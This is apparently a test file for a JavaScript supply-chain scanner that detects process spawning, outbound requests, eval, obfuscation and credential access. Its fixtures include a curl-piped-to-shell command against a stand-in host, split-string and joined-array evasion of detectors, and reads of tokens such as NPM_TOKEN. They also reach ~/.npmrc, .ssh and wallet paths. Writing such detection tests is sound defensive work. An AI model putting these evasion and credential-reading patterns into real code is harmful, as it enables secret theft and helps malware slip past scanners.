import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { extractJsCapabilities } from './extract.js';
import { buildLineIndex } from './line-index.js';
import { estimateNesting, isSafeToParse, startsStatement } from './nesting.js';
import { needsSyntaxTree } from './prefilter.js';
import { makeSnippet } from './snippet.js';

const capabilitiesOf = (source: string, filename = 'x.js') =>
  extractJsCapabilities(source, { filename }).facts.map((fact) => `${fact.capability}@${fact.line}`);

/** Each fact of one walk as `line capability detail`, of the capabilities `keep` takes. */
function factLines(source: string, walk: 'position' | 'estree', keep: (capability: string) => boolean) {
  return extractJsCapabilities(source, { filename: 'x.js', walk })
    .facts.filter((fact) => keep(fact.capability))
    .map((fact) => `${fact.line} ${fact.capability} ${fact.detail ?? ''}`);
}

/** A `keep` for `expectFromBothWalks`: the capabilities of these families (`'process.'`, `'network.'`...). */
const inFamilies =
  (...prefixes: readonly string[]) =>
  (capability: string): boolean =>
    prefixes.some((prefix) => capability.startsWith(prefix));

/** The facts both walks (in oxc's buffer and over the ESTree) must give. */
function expectFromBothWalks(
  source: string,
  expected: readonly string[],
  keep: (capability: string) => boolean = () => true,
): void {
  for (const walk of ['position', 'estree'] as const)
    expect(factLines(source, walk, keep), walk).toEqual(expected);
}

describe('when offsets become positions', () => {
  it('counts lines from 1 and columns in UTF-16 units, CRLF included', () => {
    const index = buildLineIndex('ab\r\ncé\nlast');
    expect(index.lines).toBe(3);
    expect(index.position(0)).toEqual({ line: 1, column: 1 });
    expect(index.position(5)).toEqual({ line: 2, column: 2 });
    expect(index.position(7)).toEqual({ line: 3, column: 1 });
    expect(index.lineSpan(1)).toEqual({ start: 0, end: 2 });
  });
});

describe('when a snippet is made', () => {
  it('escapes bidi and control characters, collapses blanks and redacts tokens', () => {
    const source = `const a = "\u202Eevil";\n\n   const t = 'ghp_${'a'.repeat(36)}';`;
    const snippet = makeSnippet(source, 0, source.length);
    expect(snippet).toContain('\\u202e');
    expect(snippet).not.toContain('\u202E');
    expect(snippet).not.toContain('  ');
    expect(snippet).toContain('ghp_[redacted]');
    expect(snippet).not.toContain('a'.repeat(36));
  });
});

describe('when modules are reached through ESM imports and aliases', () => {
  it('resolves named, namespace, renamed and awaited dynamic imports', async () => {
    const source = [
      "import { exec as run } from 'node:child_process';",
      "import * as net from 'net';",
      "import fsp from 'fs/promises';",
      "run('id');",
      "net.connect(80, 'host.example.invalid');",
      "await fsp.writeFile('out.txt', 'x');",
      'async function later() {',
      "  const { execSync } = await import('child_process');",
      "  execSync('id');",
      '}',
    ].join('\n');
    expect(capabilitiesOf(source, 'x.mjs')).toEqual(
      expect.arrayContaining([
        'process.spawn@4',
        'network.outbound@5',
        'filesystem.write@6',
        'process.spawn@9',
      ]),
    );
  });

  it("binds the callback's parameter of import('x').then(...) to the module, in both walks", () => {
    const source = [
      "import('child_process').then((cp) => cp.exec('id'));",
      "import('node:child_process').then(function ({ spawn: run, execSync = null }) { run('sh'); execSync('id'); });",
      "import('https').then((https) => https.get('https://x.invalid/a'));",
      // the parameter belongs to the callback: outside it, `cp` is not the module
      "const cp = { exec() {} }; cp.exec('id');",
      // not a dynamic import, not a module that spawns, no parameter of the callback
      "fetchLater().then((cp) => cp.exec('id'));",
      "import('lodash').then((cp) => cp.exec('id'));",
      "import('child_process').then(() => exec('id'));",
    ].join('\n');
    expectFromBothWalks(
      source,
      [
        '1 process.spawn child_process.exec: id',
        '2 process.spawn child_process.spawn: sh',
        '2 process.spawn child_process.execSync: id',
        '3 network.outbound https.get',
      ],
      inFamilies('process.', 'network.'),
    );
  });

  it('follows a module through either branch, promisify and bind, in both walks', () => {
    const source = [
      "const cp = lazy ? require('child_process') : null;",
      "cp.exec('id');",
      "const proto = secure ? https : require('http');",
      'proto.request(options);',
      "const got = cached || require('got');",
      'got(url);',
      "const run = require('util').promisify(require('child_process').execFile);",
      "run('git', ['status']);",
      "const spawnBound = require('child_process').spawn.bind(null);",
      "spawnBound('sh');",
      // a server listens; another library's promisify and a bound local function are nothing
      "const wss = new (flag ? require('ws').WebSocketServer : Other)({ port: 0 });",
      "const wait = require('./helpers').promisify(setTimeout);",
      'const log = console.log.bind(console);',
    ].join('\n');
    expectFromBothWalks(
      source,
      [
        '2 process.spawn child_process.exec: id',
        '4 network.outbound http.request',
        '6 network.outbound got',
        '8 process.spawn child_process.execFile: git',
        '10 process.spawn child_process.spawn: sh',
      ],
      inFamilies('process.', 'network.'),
    );
  });

  it('follows a module kept on this, by an assignment or a class field, in both walks', () => {
    const source = [
      'class Runner {',
      "  cp = require('child_process');",
      "  static net = require('net');",
      '  constructor() {',
      "    this.https = require('https');",
      '    this.other = makeOther();',
      '  }',
      "  run() { this.cp.exec('id'); this.https.get(url); }",
      // a static field is not on instances; a property of something else; a deeper path
      "  more() { this.net.connect(80); this.other.exec('id'); that.cp.exec('id'); this.a.b = require('fs'); }",
      '}',
    ].join('\n');
    expectFromBothWalks(
      source,
      ['8 process.spawn child_process.exec: id', '8 network.outbound https.get'],
      inFamilies('process.', 'network.'),
    );
  });

  it('takes what createRequire(import.meta.url) makes for require, in both walks', () => {
    const source = [
      "import { createRequire } from 'node:module';",
      "import nodeModule from 'module';",
      'const load = createRequire(import.meta.url);',
      "load('child_process').exec('id');",
      'const load2 = nodeModule.createRequire(import.meta.url);',
      "load2('child_process').spawn('sh');",
      // a function of the same name from elsewhere makes no require
      "import { createRequire as make } from './local.js';",
      'const other = make(import.meta.url);',
      "other('child_process').exec('id');",
    ].join('\n');
    expectFromBothWalks(
      source,
      ['4 process.spawn child_process.exec: id', '6 process.spawn child_process.spawn: sh'],
      inFamilies('process.'),
    );
  });

  it('does not take a local function named like a global for the global', () => {
    const source =
      'function fetch(x) { return x; }\nconst process = require("child_process");\nprocess.env;\n';
    expect(capabilitiesOf(source)).not.toContain('environment.bulk-read@3');
  });
});

describe('when a function replaces itself with a getter', () => {
  it('is the obfuscator string array only when it returns a string array', () => {
    const memoiser = [
      'let cluster = () => {',
      "  const data = require('cluster');",
      '  cluster = () => data;',
      '  return data;',
      '};',
      // Something that sends the file to the parser (the prefilter skips plain modules).
      'setTimeout(() => cluster(), 1);',
    ].join('\n');
    expect(capabilitiesOf(memoiser).filter((c) => c.startsWith('obfuscation'))).toEqual([]);
    const obfuscated = [
      "function _0x3f2a() { const _0x5b1c = ['log', 'inert', 'c2Vjb25k', 'dGhpcmQ=']; _0x3f2a = function () { return _0x5b1c; }; return _0x3f2a(); }",
    ].join('\n');
    expect(capabilitiesOf(obfuscated).filter((c) => c.startsWith('obfuscation.string-array')).length).toBe(2);
  });
});

describe('when a page sends or loads through the browser', () => {
  it('takes beacons, worker script imports and script elements for outbound requests, in both walks', () => {
    const source = [
      "navigator.sendBeacon('https://x.invalid/c', JSON.stringify(data));",
      "importScripts('https://x.invalid/w.js');",
      "const s = document.createElement('script');",
      "window.document.createElement('SCRIPT');",
      // other elements, and a beacon or import of something else
      "document.createElement('div');",
      'document.createElement(tag);',
      "analytics.sendBeacon('https://x.invalid/c');",
      "loader.importScripts('https://x.invalid/w.js');",
    ].join('\n');
    expectFromBothWalks(
      source,
      [
        '1 network.outbound navigator.sendBeacon',
        '2 network.outbound importScripts',
        '3 network.outbound script element',
        '4 network.outbound script element',
      ],
      inFamilies('network.'),
    );
  });
});

describe('when a network module is used for something other than a connection', () => {
  it('takes byte helpers and settings (ws 8.22 and http.websocketMask) for what they are', () => {
    const helpers = [
      "const { websocketMask, websocketUnmask } = require('http');",
      'if (websocketMask) websocketMask(source, mask, output, offset, length);',
      "const tls = require('tls');",
      'const context = tls.createSecureContext({});',
    ].join('\n');
    expect(capabilitiesOf(helpers)).toEqual([]);
    // The connecting calls of the same modules still count.
    expect(capabilitiesOf(`${helpers}\nconst socket = tls.connect(443, 'example.invalid');`)).toEqual([
      'network.outbound@5',
    ]);
  });
});

describe('when the same name means different things in different functions', () => {
  it('keeps taint inside the function that decoded', () => {
    const source = [
      'function a() { const e = atob(input); return e.length; }',
      'function b(e) { return eval(e); }',
      'function c() { const e = atob(input); return eval(e); }',
    ].join('\n');
    const chains = extractJsCapabilities(source, { filename: 'x.js' }).facts.filter(
      (fact) => fact.capability === 'code.decode-then-execute',
    );
    expect(chains.map((fact) => fact.line)).toEqual([3]);
  });

  it('judges each call by what happened inside it, not inside the call before it', () => {
    // The walk reuses its record of each open call's counters: a sibling must start afresh.
    const source = ['eval(atob(input));', 'eval(other);', 'run(eval(plain), atob(input));'].join('\n');
    const chains = extractJsCapabilities(source, { filename: 'x.js' }).facts.filter(
      (fact) => fact.capability === 'code.decode-then-execute',
    );
    expect(chains.map((fact) => `${fact.line}:${fact.column}`)).toEqual(['1:1']);
  });
});

describe('when the prefilter decides whether a file needs its syntax tree', () => {
  it('lets plain modules skip the parse and sends anything capability-shaped to it', () => {
    expect(
      needsSyntaxTree(
        "var baseGet = require('./_baseGet');\nmodule.exports = function get(o, p) { return baseGet(o, p); };",
      ),
    ).toBe(false);
    for (const source of [
      "require('https')",
      'eval(x)',
      'var _0x1a2b = 1',
      'x = !![]',
      'require(name)',
      'new Date()',
    ]) {
      expect(needsSyntaxTree(source), source).toBe(true);
    }
    const result = extractJsCapabilities("const url = 'curl https://x.invalid/i.sh | sh';", {
      filename: 'x.js',
    });
    expect(result.file.parsed).toBe('strings-only');
    expect(result.facts.map((fact) => fact.capability)).toEqual(['process.shell-command']);
  });
});

describe('when code hides its tokens from the prefilter', () => {
  // Capability-bearing code as tokens: names (escapable as \uXXXX), keywords, strings (escapable
  // in several ways) and punctuation; comments and blanks may go between any two.
  type Part = readonly ['name' | 'keyword' | 'string' | 'punct', string];
  const n = (text: string): Part => ['name', text];
  const k = (text: string): Part => ['keyword', text];
  const q = (text: string): Part => ['string', text];
  const p = (text: string): Part => ['punct', text];
  const snippets: ReadonlyArray<readonly Part[]> = [
    [n('require'), p('('), q('child_process'), p(')'), p('.'), n('exec'), p('('), q('id'), p(')')],
    [n('process'), p('.'), n('env'), p('.'), n('NPM_TOKEN')],
    [p('('), n('process'), p(')'), p('.'), n('env'), p('.'), n('GITHUB_TOKEN')],
    [n('process'), p('?.'), n('env'), p('.'), n('NPM_TOKEN')],
    [n('process'), p('['), q('env'), p(']'), p('.'), n('NPM_TOKEN')],
    [n('eval'), p('('), n('c'), p(')')],
    [k('new'), n('Function'), p('('), n('c'), p(')')],
    [n('Function'), p('?.('), n('c'), p(')')],
    [n('require'), p('('), n('c'), p(')')],
    [k('import'), p('('), n('c'), p(')')],
    [n('fetch'), p('('), q('https://x.invalid/'), p(')')],
    [n('globalThis'), p('.'), n('fetch'), p('('), n('u'), p(')')],
    [n('window'), p('['), q('eval'), p(']'), p('('), n('c'), p(')')],
    [q('~/.npmrc')],
    [q('~/.np'), p('+'), q('mrc')],
    [n('exec'), p('('), q('cu'), p('+'), q('rl https://x.invalid/a | s'), p('+'), q('h'), p(')')],
    [
      n('exec'),
      p('('),
      p('['),
      q('cu'),
      p(','),
      q('rl https://x.invalid/a | s'),
      p(','),
      q('h'),
      p(']'),
      p('.'),
      n('join'),
      p('('),
      q(''),
      p(')'),
      p(')'),
    ],
    [
      n('window'),
      p('['),
      p('['),
      q('ev'),
      p(','),
      q('al'),
      p(']'),
      p('.'),
      n('join'),
      p('('),
      q(''),
      p(')'),
      p(']'),
      p('('),
      n('c'),
      p(')'),
    ],
    [k('const'), n('e'), p('='), n('eval'), p(';'), n('e'), p('('), n('c'), p(')')],
    [p('['), p(']'), p('.'), n('constructor'), p('.'), n('constructor'), p('('), n('c'), p(')')],
    [n('Function'), p(`\`return \${c}\``)],
    [k('const'), n('wallet'), p('='), p('/\\b0x[a-fA-F0-9]{40}\\b/g')],
    [n('navigator'), p('.'), n('sendBeacon'), p('('), n('u'), p(','), n('c'), p(')')],
    [n('document'), p('.'), n('createElement'), p('('), q('script'), p(')')],
    [p('('), k('function'), p('('), p(')'), p('{'), p('}'), p(')'), p('.'), n('constructor'), p('`x`')],
    [n('eval'), p('.'), n('call'), p('('), k('null'), p(','), n('c'), p(')')],
    [n('Function'), p('.'), n('apply'), p('('), k('null'), p(','), p('['), n('c'), p(']'), p(')')],
    [
      n('Reflect'),
      p('.'),
      n('apply'),
      p('('),
      n('eval'),
      p(','),
      k('null'),
      p(','),
      p('['),
      n('c'),
      p(']'),
      p(')'),
    ],
    [
      n('process'),
      p('.'),
      n('mainModule'),
      p('.'),
      n('require'),
      p('('),
      q('child_process'),
      p(')'),
      p('.'),
      n('exec'),
      p('('),
      n('c'),
      p(')'),
    ],
    [
      p('('),
      k('function'),
      p('('),
      p(')'),
      p('{'),
      p('}'),
      p(')'),
      p('['),
      q('constructor'),
      p(']'),
      p('('),
      n('c'),
      p(')'),
    ],
    [k('const'), n('F'), p('='), n('Function'), p(';'), k('new'), n('F'), p('('), n('c'), p(')')],
    [k('const'), n('r'), p('='), n('require'), p(';'), n('r'), p('('), n('c'), p(')')],
    [k('const'), n('f'), p('='), n('window'), p('.'), n('fetch'), p(';'), n('f'), p('('), n('u'), p(')')],
    [
      k('const'),
      n('r'),
      p('='),
      n('require'),
      p('('),
      q('module'),
      p(')'),
      p('.'),
      n('createRequire'),
      p('('),
      n('u'),
      p(')'),
      p(';'),
      n('r'),
      p('('),
      n('c'),
      p(')'),
    ],
  ];
  const gaps = ['', ' ', '/**/', '/* x */', '// x\n', '\n'];
  const hex = (code: number, width: number) => code.toString(16).padStart(width, '0');

  const program = fc
    .record({
      snippet: fc.constantFrom(...snippets),
      gaps: fc.array(fc.constantFrom(...gaps), { minLength: 20, maxLength: 20 }),
      escapes: fc.array(fc.tuple(fc.nat(), fc.nat(4)), { minLength: 20, maxLength: 20 }),
    })
    .map(({ snippet, gaps: between, escapes }) => {
      const code = snippet.map(([kind, text], i) => {
        const [at, how] = escapes[i]!;
        const index = at % text.length;
        const char = text.charCodeAt(index);
        const head = text.slice(0, index);
        const tail = text.slice(index + 1);
        if (kind === 'name') return how === 0 ? text : `${head}\\u${hex(char, 4)}${tail}`;
        if (kind !== 'string') return text;
        const identity = /[a-z_.~/:]/.test(text[index]!) && !/[bfnrtvux]/.test(text[index]!);
        const escaped = [
          text,
          `${head}\\x${hex(char, 2)}${tail}`,
          `${head}\\u${hex(char, 4)}${tail}`,
          identity ? `${head}\\${text[index]}${tail}` : text,
          `${head}\\\n${text.slice(index)}`,
        ][how]!;
        return `'${escaped}'`;
      });
      return `module.exports = (c, u) => {\n  ${code.map((part, i) => (i === 0 ? '' : between[i]) + part).join('')};\n};\n`;
    });

  it('sends the code to the parser anyway: the same facts as parsing every file', () => {
    let withFacts = 0;
    fc.assert(
      fc.property(program, (source) => {
        const parsed = extractJsCapabilities(source, { filename: 'x.js', alwaysParse: true });
        const quick = extractJsCapabilities(source, { filename: 'x.js' });
        const facts = (result: typeof parsed) => result.facts.map((f) => `${f.capability}@${f.line}`).sort();
        if (parsed.facts.length > 0) withFacts++;
        expect(facts(quick), source).toEqual(facts(parsed));
      }),
      { numRuns: 3000 },
    );
    // The generated code is capability-bearing, so the check above compares something.
    expect(withFacts).toBeGreaterThan(2500);
  });

  it('reads escaped strings in files that skip the parse as the parser would', () => {
    const result = extractJsCapabilities(String.raw`module.exports = '~/\x2enpmrc';`, { filename: 'x.js' });
    expect(result.file.parsed).toBe('strings-only');
    expect(result.facts.map((fact) => fact.capability)).toEqual(['filesystem.sensitive-path']);
  });
});

describe('when a name is cut into pieces joined with +', () => {
  it('joins constant pieces in both walks', () => {
    const source = [
      "require('child_' + 'pro' + 'cess').exec('id');",
      "window['ev' + 'al'](c);",
      "process[`e` + 'nv'].NPM_TOKEN;",
    ].join('\n');
    expectFromBothWalks(source, [
      '1 process.spawn child_process.exec: id',
      '2 code.eval window.eval',
      '3 environment.token NPM_TOKEN',
    ]);
  });

  it('reads the joined text for string signals, once per chain', () => {
    const source = [
      "exec('cu' + 'rl https://x.invalid/a | s' + 'h');",
      "const rc = '~/.np' + 'mrc';",
      "const greeting = 'Hello, ' + 'world' + '!';",
      "const half = 'cu' + host + 'rl | sh';",
    ].join('\n');
    expectFromBothWalks(
      source,
      ['1 process.shell-command download piped to a shell', '2 filesystem.sensitive-path .npmrc'],
      (capability) => capability !== 'process.spawn',
    );
  });

  it('leaves pieces that are not all constant, and chains past the bound, unjoined', () => {
    const partly = "require('child_' + name).exec('id');";
    const long = `require(${Array.from('child_process'.repeat(3), (c) => `'${c}'`).join(' + ')});`;
    expectFromBothWalks(partly, ['1 code.dynamic-require require(non-constant)']);
    expectFromBothWalks(long, ['1 code.dynamic-require require(non-constant)']);
  });
});

describe('when a name is an array of pieces joined', () => {
  it('joins constant strings with a constant separator in both walks', () => {
    const source = [
      "require(['child', 'process'].join('_')).exec('id');",
      "window[['ev', 'al'].join('')](c);",
      "process[['e', 'n', 'v'].join(``)].NPM_TOKEN;",
      "exec(['cu', 'rl https://x.invalid/a | s', 'h'].join(''));",
    ].join('\n');
    expectFromBothWalks(source, [
      '1 process.spawn child_process.exec: id',
      '2 code.eval window.eval',
      '3 environment.token NPM_TOKEN',
      '4 process.shell-command download piped to a shell',
    ]);
  });

  it('leaves arrays with a piece, a separator or a hole that is not constant unjoined', () => {
    const source = [
      "require(['child', name].join('_')).exec('id');",
      "require(['child', 'process'].join(separator)).exec('id');",
      "require(['child_process',,].join('')).exec('id');",
      // constant, but the default separator is a comma: 'child,process', no module's name, nothing
      "require(['child', 'process'].join()).exec('id');",
      "require(['child_process'].concat('').join('')).exec('id');",
    ].join('\n');
    expectFromBothWalks(
      source,
      [1, 2, 3, 5].map((line) => `${line} code.dynamic-require require(non-constant)`),
    );
  });
});

describe('when a program and its arguments are given apart', () => {
  it('reads the command line they make, in both walks', () => {
    const source = [
      "const { spawn, execFileSync } = require('child_process');",
      "spawn('npm', ['publish', '--access', 'public']);",
      "execFileSync('git', ['push', '--force']);",
      "execFileSync('powershell', ['-enc', 'SQBFAFgA']);",
      // not a process run, or arguments that are not all constant
      "log('npm', ['publish']);",
      "spawn('npm', ['publish', flag]);",
    ].join('\n');
    expectFromBothWalks(
      source,
      ['2 npm.publish npm publish', '4 process.shell-command PowerShell encoded command'],
      (capability) => !capability.startsWith('process.spawn'),
    );
  });

  it('reads the path path.join and path.resolve put together, once per signal', () => {
    const source = [
      "import path from 'node:path';",
      "const hosts = path.join(os.homedir(), '.config', 'gh', 'hosts.yml');",
      "const id = path.resolve(home, '.config/solana', 'id.json');",
      // a piece that carries the signal alone is reported at its literal only
      "const key = path.join(home, '.ssh', 'config');",
      // not path's join, one constant piece, or a piece that is not constant between
      "const other = [home, '.config', 'gh'].join('/');",
      "const near = path.join(home, '.config', dir, 'gh');",
    ].join('\n');
    expectFromBothWalks(
      source,
      [
        '2 filesystem.sensitive-path .config/gh',
        '3 filesystem.sensitive-path wallet',
        '4 filesystem.sensitive-path .ssh',
      ],
      inFamilies('filesystem.'),
    );
  });
});

describe('when process.env is reached through another name', () => {
  const environment = inFamilies('environment.');

  it('reads credentials, serialisation and enumeration through aliases, destructuring and modules', () => {
    const source = [
      'const { NPM_TOKEN, GITHUB_TOKEN: gh } = process.env;',
      'const env = process.env;',
      'const a = env.AWS_SECRET_ACCESS_KEY;',
      'const { env: e2 } = process;',
      'Object.keys(e2);',
      'const p = process;',
      'const b = p.env.NODE_AUTH_TOKEN;',
      'send(JSON.stringify(env));',
      'const c = require("process").env.CI_JOB_TOKEN;',
      'const holder = { vars: env };',
    ].join('\n');
    expectFromBothWalks(
      source,
      [
        '1 environment.token NPM_TOKEN',
        '1 environment.token GITHUB_TOKEN',
        '3 environment.token AWS_SECRET_ACCESS_KEY',
        '5 environment.bulk-read Object.keys(process.env)',
        '7 environment.token NODE_AUTH_TOKEN',
        '8 environment.serialize JSON.stringify(process.env)',
        '9 environment.token CI_JOB_TOKEN',
        "10 environment.bulk-read process.env as 'vars'",
      ],
      environment,
    );
  });

  it('takes ordinary uses for what they are, and other objects named env for other objects', () => {
    const source = [
      "import process from 'node:process';",
      'const env = process.env;',
      'const home = env.HOME;',
      'const { NODE_ENV, DEBUG } = process.env;',
      "spawn('node', ['x.js'], { env });",
      "spawn('node', ['x.js'], { env: { ...env, FOO: '1' } });",
      'const { env: otherEnv } = config;',
      'const x = otherEnv.NPM_TOKEN;',
    ].join('\n');
    expectFromBothWalks(source, [], environment);
  });
});

describe('when a global function is called through another name', () => {
  it('is that function: eval, Function, fetch and require, through names and global objects', () => {
    const source = [
      'const e = eval;',
      'e(payload);',
      'const F = Function;',
      'new F(code)();',
      'const f = window.fetch;',
      "f('https://x.invalid/');",
      'const r = require;',
      "r('child_process').exec('id');",
      'r(name);',
      'const e2 = e;',
      '(0, e2)(x);',
    ].join('\n');
    expectFromBothWalks(source, [
      '2 code.eval eval (as e)',
      '4 code.function-constructor Function (as F)',
      '6 network.outbound fetch',
      '8 process.spawn child_process.exec: id',
      '9 code.dynamic-require require(non-constant)',
      '11 code.eval eval (as e2)',
    ]);
  });

  it('reaches the Function constructor through .constructor, and leaves ordinary constructors alone', () => {
    const source = [
      '[].constructor.constructor(code)();',
      '(function () {}).constructor(code)();',
      "[]['filter']['constructor'](code)();",
      'const AsyncFunction = (async () => {}).constructor;',
      'new AsyncFunction(code);',
      'const copy = new this.constructor(value);',
      'const kind = obj.constructor.name;',
      'class A { constructor(x) { this.x = x; } }',
    ].join('\n');
    expectFromBothWalks(source, [
      '1 code.function-constructor Function (through .constructor)',
      '2 code.function-constructor Function (through .constructor)',
      '3 code.function-constructor Function (through .constructor)',
      '5 code.function-constructor Function (as AsyncFunction)',
    ]);
  });

  it('reaches it through Function.prototype and as a template tag, and require through a sequence', () => {
    const source = [
      'Function.prototype.constructor(code)();',
      `Function\`return \${code}\`();`,
      'Function`return this`();',
      "(0, require)('child_process').exec('id');",
      '(0, require)(name);',
      // ordinary prototypes, tags and indirect calls
      'Base.prototype.constructor.call(this, options);',
      `html\`<p>\${text}</p>\`;`,
      "(0, load)('child_process');",
    ].join('\n');
    expectFromBothWalks(source, [
      '1 code.function-constructor Function (through .constructor)',
      '2 code.function-constructor Function (tagged template)',
      '3 code.function-constructor Function (tagged template) (constant)',
      '4 process.spawn child_process.exec: id',
      '5 code.dynamic-require require(non-constant)',
    ]);
  });

  it('loads a module through require.call and require.apply, in both walks', () => {
    const source = [
      "require.call(null, 'child_process').exec('id');",
      "require.apply(undefined, ['node:child_process']).spawn('sh');",
      'const r = require;',
      "r.call(this, 'https').get(url);",
      // another function's call and apply, and a specifier that is not constant
      "loader.call(null, 'child_process').exec('id');",
      "require.call(null, 'lodash').exec('id');",
    ].join('\n');
    expectFromBothWalks(
      source,
      [
        '1 process.spawn child_process.exec: id',
        '2 process.spawn child_process.spawn: sh',
        '4 network.outbound https.get',
      ],
      inFamilies('process.', 'network.'),
    );
  });

  it('runs code in a worker thread given { eval: true }, in both walks', () => {
    const source = [
      "const { Worker } = require('worker_threads');",
      'new Worker(code, { eval: true, workerData: 1 });',
      "new (require('node:worker_threads').Worker)('postMessage(1)', { 'eval': true });",
      // a worker from a file, eval switched off, or options that are not written out
      "new Worker('./task.js');",
      'new Worker(code, { eval: false });',
      'new Worker(code, options);',
      'new Worker(code, { eval: true, eval: false });',
    ].join('\n');
    expectFromBothWalks(
      source,
      [
        '2 code.eval worker_threads.Worker with eval: true',
        '3 code.eval worker_threads.Worker with eval: true',
      ],
      inFamilies('code.'),
    );
  });

  it('runs code through call, apply and Reflect, and loads modules through other loaders', () => {
    const source = [
      'eval.call(null, code);',
      'Function.apply(null, [code]);',
      'Reflect.apply(eval, null, [code]);',
      'Reflect.construct(Function, [code]);',
      "process.mainModule.require('child_process').exec('id');",
      "module.constructor._load('child_process').exec('id');",
      'fn.call(null, code);',
    ].join('\n');
    expectFromBothWalks(source, [
      '1 code.eval eval.call',
      '2 code.function-constructor Function.apply',
      '3 code.eval Reflect.apply(eval)',
      '4 code.function-constructor Reflect.construct(Function)',
      '5 process.spawn child_process.exec: id',
      '6 process.spawn child_process.exec: id',
    ]);
  });

  it('is not when the name holds something else', () => {
    const source = [
      'const e = config.eval;',
      'e(payload);',
      "const f = require('./fetch-cache');",
      "f('https://x.invalid/');",
      'const r = loader.require;',
      'r(name);',
    ].join('\n');
    expectFromBothWalks(source, []);
  });
});

describe('when nesting is estimated', () => {
  it('passes ordinary code and stops hostile depth', () => {
    expect(
      isSafeToParse(estimateNesting('function f(a) { if (a) { return [a, { b: (a + 1) * 2 }]; } }')),
    ).toBe(true);
    expect(isSafeToParse(estimateNesting(`x = ${'('.repeat(5000)}1${')'.repeat(5000)}`))).toBe(false);
    expect(isSafeToParse(estimateNesting(`x = ${'a+'.repeat(20000)}1`))).toBe(false);
    // Brackets inside strings and comments are not code.
    expect(isSafeToParse(estimateNesting(`const s = "${'('.repeat(5000)}"; // ${'['.repeat(5000)}`))).toBe(
      true,
    );
  });
});

describe('when the nesting pre-scan meets a word', () => {
  const words = ['if(', 'if (', 'while(', 'while (', 'else ', 'for(', 'for (', 'with(', 'do '];

  it('counts as a statement exactly the words that nest without brackets', () => {
    const text = fc.string({ unit: fc.constantFrom(...'ifwhlsedotr( x'.split('')), maxLength: 12 });
    fc.assert(
      fc.property(text, fc.nat(12), (source, at) => {
        expect(startsStatement(source, at)).toBe(words.some((word) => source.startsWith(word, at)));
      }),
      { numRuns: 5000 },
    );
    for (const word of words) expect(startsStatement(`x ${word}y`, 2), word).toBe(true);
    for (const near of ['iff(', 'for  (', 'with (', 'elsewhere', 'do(', 'whil(']) {
      expect(startsStatement(near, 0), near).toBe(false);
    }
  });
});

describe('when input is truncated or arbitrary', () => {
  const fixture = readFileSync(
    fileURLToPath(new URL('../../../test/fixtures/js/data/decode-exec.js', import.meta.url)),
    'utf8',
  );

  it('gives a result for the fixture cut at every offset', () => {
    for (let cut = 0; cut <= fixture.length; cut++) {
      const result = extractJsCapabilities(fixture.slice(0, cut), { filename: 'cut.js' });
      expect(result.file.bytes).toBe(Buffer.byteLength(fixture.slice(0, cut)));
    }
  });

  it('never throws on arbitrary text', () => {
    const jsish = fc.string({
      unit: fc.constantFrom(...'(){}[];,.=+!?:`\'"/\\*_0xabc eval require \n\t\u2028'.split('')),
      maxLength: 300,
    });
    fc.assert(
      fc.property(fc.oneof(fc.string({ maxLength: 300 }), jsish), (source) => {
        const result = extractJsCapabilities(source, { filename: 'p.js' });
        expect(result.file.lines).toBeGreaterThan(0);
      }),
      { numRuns: 400 },
    );
  });
});
